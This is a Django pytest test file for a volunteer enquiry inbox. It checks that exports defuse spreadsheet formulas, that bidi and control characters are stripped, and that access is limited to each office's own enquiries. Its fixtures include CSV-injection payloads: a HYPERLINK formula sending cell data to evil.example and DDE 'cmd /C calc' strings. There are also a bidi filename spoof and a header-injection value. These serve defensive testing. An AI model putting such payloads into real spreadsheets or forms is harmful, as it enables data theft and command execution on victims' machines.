"""The enquiry inbox: exports that cannot run formulas, readable headings, bidi-free names
from the public form, and 403 for another office's enquiries."""

import csv
import io

import pytest
from django.core.cache import cache
from django.utils import timezone

from example_project.demo.files import make_csv
from tests.engagement_helpers import build_engagement_site, form_token, office_staff, valid_post
from wagtail_ehrenamt.engagement.forms import EnquiryForm
from wagtail_ehrenamt.models import EnquiryStatusChange, VolunteerEnquiry
from wagtail_ehrenamt.text import csv_cell

pytestmark = pytest.mark.django_db

BASE = "/admin/wagtail_ehrenamt/volunteerenquiry/"
FORMULAS = {
    "name": '=HYPERLINK("http://evil.example/?x="&A1,"Klick")',
    "availability": "-2+3+cmd|' /C calc'!A0",
    "message": "@SUM(1+1)*cmd|' /C calc'!A0",
    "email": "",
    "phone": "+49 6621 17-320",
}


@pytest.fixture
def site(home_page):
    return build_engagement_site(home_page)


@pytest.fixture
def staff(site, django_user_model):
    return {
        "kellbach": office_staff(django_user_model, "kellbach", site["offices"]["kellbach"]),
        "lindenhain": office_staff(django_user_model, "lindenhain", site["offices"]["lindenhain"]),
    }


def make_enquiry(office, **fields):
    data = {"name": "Karl Kellbacher", "email": "karl@example.org", "message": "Hallo"}
    data.update(fields)
    enquiry = VolunteerEnquiry.objects.create(
        office=office, consent_at=timezone.now(), interests=["language_cafe"], **data
    )
    EnquiryStatusChange.objects.create(enquiry=enquiry, from_status="", to_status="new")
    return enquiry


def export_rows(client):
    response = client.get(f"{BASE}?export=csv")
    assert response.status_code == 200
    body = b"".join(response.streaming_content).decode()
    return list(csv.reader(io.StringIO(body)))


# --- 1. CSV formulas and headings ----------------------------------------------------------


def test_inbox_csv_export_neutralises_formulas(client, site, staff):
    make_enquiry(site["offices"]["kellbach"], **FORMULAS)
    client.force_login(staff["kellbach"])
    header, row = export_rows(client)
    cells = dict(zip(header, row, strict=True))
    for field, value in FORMULAS.items():
        if not value:
            continue
        cell = next(cell for cell in row if value in cell)
        if field == "phone":
            assert cell == value  # a phone number stays readable
        else:
            assert cell == "'" + value, field
    assert not any(cell[:1] in ("=", "@") for cell in row)
    assert len(cells) == len(row)


def test_inbox_export_headings_are_translated(client, site, staff):
    make_enquiry(site["offices"]["kellbach"])
    client.force_login(staff["kellbach"])
    header, _row = export_rows(client)
    assert not any("Get " in heading or "Display" in heading for heading in header)
    assert "Interessen" in header or "Interests" in header
    assert "Sprachen" in header or "Languages" in header
    # Every heading starts with a capital letter and is not Title Cased By Python.
    assert all(heading[:1].isupper() for heading in header), header


def test_inbox_xlsx_export_survives_control_characters(client, site, staff):
    from openpyxl import load_workbook

    make_enquiry(site["offices"]["kellbach"], name="=1+1", message="a\x01b\rc")
    client.force_login(staff["kellbach"])
    response = client.get(f"{BASE}?export=xlsx")
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    values = [cell.value for cell in list(sheet.rows)[1]]
    assert "=1+1" in values or "'=1+1" in values
    assert "ab\nc" in values


def test_every_csv_writer_uses_the_shared_helper():
    for value in ["=1+1", "+1+cmd|' /C calc'!A0", "-1+1", "@SUM(A1)", "\tx", "\rx"]:
        assert csv_cell(value).startswith("'"), value
    for value in ["+49 6621 17-320", "-3", "Kellbach", ""]:
        assert csv_cell(value) == value
    rows = list(
        csv.reader(
            io.StringIO(make_csv([["Name", "Ort"], ["=cmd|' /C calc'!A0", "a\rb"]]).decode()[1:]),
            delimiter=";",
        )
    )
    assert rows == [["Name", "Ort"], ["'=cmd|' /C calc'!A0", "a\nb"]]


# --- 5. bidirectional overrides -----------------------------------------------------------


BIDI = "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069"


def test_enquiry_form_strips_bidi_overrides_and_control_characters(client, site):
    cache.clear()
    url = "/mitmachen/enquiry/"
    token = form_token(client.get(url).content.decode())
    response = client.post(
        url,
        valid_post(
            token,
            name="Ali \u202eexe.live\u202c\x01",
            message=f"Zeile 1\r\nZeile 2\u2028Zeile 3{BIDI}",
            availability="abends\u2066\u2069",
        ),
    )
    assert response.status_code == 303
    enquiry = VolunteerEnquiry.objects.get()
    assert enquiry.name == "Ali exe.live"
    assert enquiry.message == "Zeile 1\nZeile 2\nZeile 3"
    assert enquiry.availability == "abends"


def test_enquiry_form_name_is_one_line():
    form = EnquiryForm(data={"name": "Ali\rX-Evil: 1"})
    form.is_valid()
    assert form.cleaned_data["name"] == "Ali X-Evil: 1"


def test_csv_export_strips_bidi_overrides_of_older_enquiries(client, site, staff):
    make_enquiry(site["offices"]["kellbach"], name="Ali \u202eexe.live")
    client.force_login(staff["kellbach"])
    _header, row = export_rows(client)
    assert "Ali exe.live" in row
    assert not any(char in "".join(row) for char in BIDI)


# --- 9. another office's enquiry ----------------------------------------------------------


def test_another_offices_enquiry_is_forbidden_not_redirected(client, site, staff):
    other = make_enquiry(site["offices"]["lindenhain"], name="Lina Lindenhainerin")
    own = make_enquiry(site["offices"]["kellbach"])
    client.force_login(staff["kellbach"])
    for action in ["inspect", "edit", "delete"]:
        response = client.get(f"{BASE}{action}/{other.pk}/")
        assert response.status_code == 403, action
        assert "Lina" not in response.content.decode()
    for action, data in [("edit", {"status": "closed", "internal_note": "x"}), ("delete", {})]:
        assert client.post(f"{BASE}{action}/{other.pk}/", data).status_code == 403, action
    other.refresh_from_db()
    assert other.status == "new"
    # The own office's enquiry still opens; an unknown one is 404.
    assert client.get(f"{BASE}inspect/{own.pk}/").status_code == 200
    assert client.get(f"{BASE}inspect/{other.pk + own.pk + 100}/").status_code == 404
